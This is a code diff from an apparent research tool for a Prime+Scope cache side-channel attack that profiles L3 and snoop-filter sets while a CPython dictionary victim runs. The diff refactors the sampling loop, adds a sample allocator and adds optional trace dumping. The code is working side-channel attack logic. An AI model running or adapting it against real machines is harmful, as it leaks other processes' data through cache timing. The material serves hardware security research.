@@ -5,6 +5,7 @@
 #include "config.h"
 #include "log.h"
 #include "prime_probe.h"
+#include "sample_alloc.h"
 #include "shared_memory.h"
 #include "math.h"
 #include <stdint.h>
@@ -17,10 +18,10 @@
 static const char *dump_dir = "cpython_dict_profiling";
 static const uint64_t max_exec_cycles = (uint64_t)2e6;
 enum { cache_line_count = 1, profile_iterations = 1 << 16 };
-static uint64_t probe_time_arr[cache_line_count][profile_iterations];
-static uint64_t sample_tsc_arr[cache_line_count][profile_iterations];
+static sample_alloc_t sample_alloc;
 static uint64_t *sample_tsc[cache_line_count];
 static uint64_t *probe_time[cache_line_count];
+static uint64_t sample_count[cache_line_count];
 static uint64_t *reload_time[cache_line_count];
 static const int dict_entries = 1 << 16;
 static const int target_entries = 128;
@@ -34,6 +35,8 @@ f64 *expected_hits = NULL;
 static config_t *cfg;
 static int *targets, *select_all_mask, *select_all, select_all_num = 0;
 static bool use_cos = true;
+// DICT_DUMP_TRACES=1 records and dumps every sample of the profile() sweeps
+static bool dump_traces = false;
 
 static bool check(u32 ctr) {
 	return (ctr >= dict_iterations * factor) &&
@@ -50,129 +53,141 @@ static int qsort_lt(const void *a, const void *b) {
 	}
 }
 
-void check_distribution(uint64_t *probes, int length) {
+/* Median gap between the length samples counted in gap_hist */
+void check_distribution(const u32 *gap_hist, int length) {
 	if (length == 0) {
 		return;
 	}
-	uint64_t ts_diff[profile_iterations];
-	double mean = 0;
-	memset(ts_diff, 0, sizeof(ts_diff));
-	for (int i = 1; i < length; ++i) {
-		ts_diff[i - 1] = probes[i] - probes[i - 1];
-		mean += ts_diff[i - 1];
+	u32 mid = (length - 1) / 2, seen = gap_hist[0];
+	int bin = 0;
+	while (seen <= mid) {
+		seen += gap_hist[++bin];
 	}
-	qsort(ts_diff, length - 1, sizeof(uint64_t), qsort_lt);
-	int mid = (length - 1) * 1.0 / 2;
-	mean /= length;
-	/* log_info("median: %ld mean: %lf", ts_diff[mid], mean); */
+	log_debug("median gap: [%lu, %lu) cycles", 1UL << bin, 2UL << bin);
 	return;
 }
 
-static u32
-cpython_PS_profile_once(EVSet *evset, int slot, uint64_t max_exec_cycles) {
-	uint64_t tsc0, tsc1;
-	uint8_t *scope = evset->addrs[0];
-	evchain *sf_chain = evchain_build(evset->addrs, SF_ASSOC);
-
-	u64 scope_lat, end;
-	u32 aux, index = 0;
-	u32 l2_repeat = 1, array_repeat = 12;
-	i64 threshold = detected_cache_lats.l2_thresh;
-
-	prime_skx_sf_evset_ps_flush(evset, sf_chain, array_repeat, l2_repeat);
-
-	/* log_info("profile start %lu", rdtscp()); */
-	tsc0 = tsc1 = rdtscp();
-	do {
-		tsc1 = rdtscp();
-
-		scope_lat = _time_maccess_aux(scope, end, aux);
-		if (scope_lat > threshold) {
-			if (scope_lat < detected_cache_lats.interrupt_thresh) {
-				probe_time[0][index] = scope_lat;
-				sample_tsc[0][index] = tsc1;
-				index++;
-			}
-			prime_skx_sf_evset_ps_flush(
-			    evset, sf_chain, array_repeat, l2_repeat);
-		}
-	} while (tsc1 - tsc0 < max_exec_cycles && index < profile_iterations);
-
-	tsc1 = mfence_rdtscp();
+/*
+ * Without count_only, the samples go to the slot columns of sample_tsc and
+ * probe_time. Otherwise only their number is kept, with the gaps in gap_hist
+ * if it is not NULL.
+ */
+static u32 cpython_PS_profile_once(EVSet *evset,
+                                   int slot,
+                                   uint64_t max_exec_cycles,
+                                   bool count_only,
+                                   u32 *gap_hist) {
+	prime_scope_t ps = {
+		.evset = evset,
+		.sf_chain = evchain_build(evset->addrs, SF_ASSOC),
+		.array_repeat = 12,
+		.l2_repeat = 1,
+		.slot = slot,
+		.threshold = detected_cache_lats.l2_thresh,
+		.max_exec_cycles = max_exec_cycles,
+		.max_samples = profile_iterations,
+		.sample_tsc = count_only ? NULL : sample_tsc[slot],
+		.probe_time = count_only ? NULL : probe_time[slot],
+		.gap_hist = gap_hist,
+		.live = NULL,
+	};
+	u32 index;
+
+	prime_skx_sf_evset_ps_flush(
+	    evset, ps.sf_chain, ps.array_repeat, ps.l2_repeat);
+
+	if (count_only) {
+		index = prime_scope_profile(&ps,
+		                            PRIME_SCOPE_RECORD_COUNT,
+		                            PRIME_SCOPE_STOP_BUDGET,
+		                            PRIME_SCOPE_NOISE_IGNORE);
+	} else {
+		index = prime_scope_profile(&ps,
+		                            PRIME_SCOPE_RECORD_SAMPLES,
+		                            PRIME_SCOPE_STOP_BUDGET,
+		                            PRIME_SCOPE_NOISE_IGNORE);
+	}
 
-	/* log_info("profile end %lu", tsc1); */
 	log_trace("Client start done");
 	return index;
 }
 
-static void profile(uint64_t i, int j) {
-	*(uint64_t *)(sync_ctx.data) = (uint64_t)i;
-	for (int l3_set = 0; l3_set < cfg->l3.sets; ++l3_set) {
-		if (l3_set % 1000 == 0) {
+/*
+ * Profile the victim probing entry i on the L3 sets sel, or on every set if
+ * sel is NULL, into row j of profiles. Each victim run profiles a single
+ * set: sets sharing the fixed window round-robin would each count fewer
+ * samples the more of them there are, and the cut-off and the similarities
+ * compare counts across sweeps.
+ */
+static void profile_sets(uint64_t i, int j, const int *sel, int sel_num) {
+	bool dump = dump_traces && sel == NULL;
+
+	for (int idx = 0; idx < sel_num; ++idx) {
+		int l3_set = sel != NULL ? sel[idx] : idx;
+		if (sel == NULL && l3_set % 1000 == 0) {
 			log_info("profile set %d: L3 set: %d", j, l3_set);
 		}
 		EVSet *evset = get_sf_kth_evset(l3_set);
-		if (evset) {
-			memset(sample_tsc_arr, 0, sizeof(sample_tsc_arr));
-			memset(probe_time_arr, 0, sizeof(probe_time_arr));
+		if (!evset) {
+			log_error("Cannot get evset for set %d", l3_set);
+			continue;
+		}
+		u32 gap_hist[PRIME_SCOPE_GAP_BINS] = { 0 };
 
-			sync_ctx_set_action(SYNC_CTX_PROBE);
+		if (dump) {
+			sample_alloc_clear(&sample_alloc);
+		}
 
-			pthread_barrier_wait(sync_ctx.barrier);
+		sync_ctx_set_action(SYNC_CTX_PROBE);
+		*sync_ctx.data = i;
 
-			u32 res = cpython_PS_profile_once(evset, 0, max_exec_cycles);
+		pthread_barrier_wait(sync_ctx.barrier);
 
-			if (check(res)) {
-				check_distribution(sample_tsc_arr[0], res);
-			}
+		u32 res = cpython_PS_profile_once(
+		    evset, 0, max_exec_cycles, !dump, gap_hist);
+
+		if (check(res)) {
+			check_distribution(gap_hist, res);
+		}
 
+		if (dump) {
+			sample_count[0] = res;
+			capture_profiling_thread(0,
+			                         TRACE_ATTACK_PS,
+			                         l3_set,
+			                         detected_cache_lats.l2_thresh,
+			                         profile_iterations,
+			                         max_exec_cycles);
 			dump_profiling_traces("dictionary",
 			                      32,
 			                      sample_tsc,
 			                      probe_time,
+			                      sample_count,
 			                      cache_line_count,
 			                      profile_iterations,
 			                      0);
+		}
 
-			pthread_barrier_wait(sync_ctx.barrier);
-
-			if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
-				log_warn("profile time/iteration too small (index %lu)", res);
-			}
+		pthread_barrier_wait(sync_ctx.barrier);
 
-			profiles[j * cfg->l3.sets + l3_set] = res;
-		} else {
-			log_error("Cannot get evset for set %d", l3_set);
+		if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
+			log_warn("profile time/iteration too small (index %u)", res);
 		}
+
+		profiles[j * cfg->l3.sets + l3_set] = res;
 	}
 }
 
-static void profile_selected(int i, int j, int *sel, int sel_num) {
-	for (int idx = 0; idx < sel_num; ++idx) {
-		int l3_set = sel[idx];
-		EVSet *evset = get_sf_kth_evset(l3_set);
-		if (evset) {
-			memset(sample_tsc_arr, 0, sizeof(sample_tsc_arr));
-			memset(probe_time_arr, 0, sizeof(probe_time_arr));
-
-			sync_ctx_set_action(SYNC_CTX_PROBE);
-			*sync_ctx.data = i;
-
-			pthread_barrier_wait(sync_ctx.barrier);
-
-			u32 res = cpython_PS_profile_once(evset, 0, max_exec_cycles);
-
-			pthread_barrier_wait(sync_ctx.barrier);
+static void profile(uint64_t i, int j) {
+	trace_capture_t *capture = trace_get_capture();
 
-			if (sync_ctx_get_action() != SYNC_CTX_PAUSE) {
-				log_warn("profile time/iteration too small (index %lu)", res);
-			}
+	capture->victim_action = SYNC_CTX_PROBE;
+	snprintf(capture->victim_data, sizeof(capture->victim_data), "%lu", i);
+	profile_sets(i, j, NULL, cfg->l3.sets);
+}
 
-			profiles[j * cfg->l3.sets + l3_set] = res;
-		} else {
-			log_error("Cannot get evset for set %d", l3_set);
-		}
-	}
+static void profile_selected(int i, int j, int *sel, int sel_num) {
+	profile_sets(i, j, sel, sel_num);
 }
 
 static double
@@ -354,15 +369,26 @@ int main(int argc, char *argv[]) {
 
 	cfg = get_config();
 
+	const char *env_dump_traces = getenv("DICT_DUMP_TRACES");
+	dump_traces = env_dump_traces != NULL && strcmp(env_dump_traces, "0") != 0;
+
 	if (cache_env_init(1)) {
 		log_error("Failed to initialize cache env!");
 		return 0;
 	}
 
+	if (sample_alloc_init(&sample_alloc,
+	                      2 * cache_line_count * profile_iterations *
+	                          sizeof(uint64_t),
+	                      -1)) {
+		return 0;
+	}
+	sample_alloc_columns(
+	    &sample_alloc, sample_tsc, cache_line_count, profile_iterations);
+	sample_alloc_columns(
+	    &sample_alloc, probe_time, cache_line_count, profile_iterations);
 	for (int i = 0; i < cache_line_count; ++i) {
-		sample_tsc[i] = sample_tsc_arr[i];
-		probe_time[i] = probe_time_arr[i];
-		reload_time[i] = probe_time_arr[i];
+		reload_time[i] = probe_time[i];
 	}
 
 	init_sync_ctx(CPYTHON_PROJ_ID);
@@ -556,6 +582,7 @@ int main(int argc, char *argv[]) {
 
 	sync_ctx_set_action(SYNC_CTX_EXIT);
 	pthread_barrier_wait(sync_ctx.barrier);
+	sample_alloc_destroy(&sample_alloc);
 
 	free(profiles);
 